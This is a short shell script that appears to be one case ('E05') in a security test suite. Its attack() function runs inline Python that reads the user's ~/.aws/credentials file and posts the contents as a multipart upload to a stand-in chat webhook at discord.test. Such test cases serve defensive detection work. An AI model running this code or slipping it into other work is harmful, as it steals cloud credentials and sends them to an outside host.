# SPDX-License-Identifier: Apache-2.0
TITLE="python posts a multipart form to a chat webhook"
ROW="E05"
DEST='discord.test:80'
attack() {
	python3 - <<-'END'
	import http.client, os
	data = open(os.path.expanduser('~/.aws/credentials')).read()
	body = '--b\r\nContent-Disposition: form-data; name="file"; filename="c"\r\n\r\n%s\r\n--b--\r\n' % data
	c = http.client.HTTPConnection('discord.test', timeout=5)
	c.request('POST', '/api/webhooks/1/x', body, {'Content-Type': 'multipart/form-data; boundary=b'})
	c.getresponse().read()
	END
}
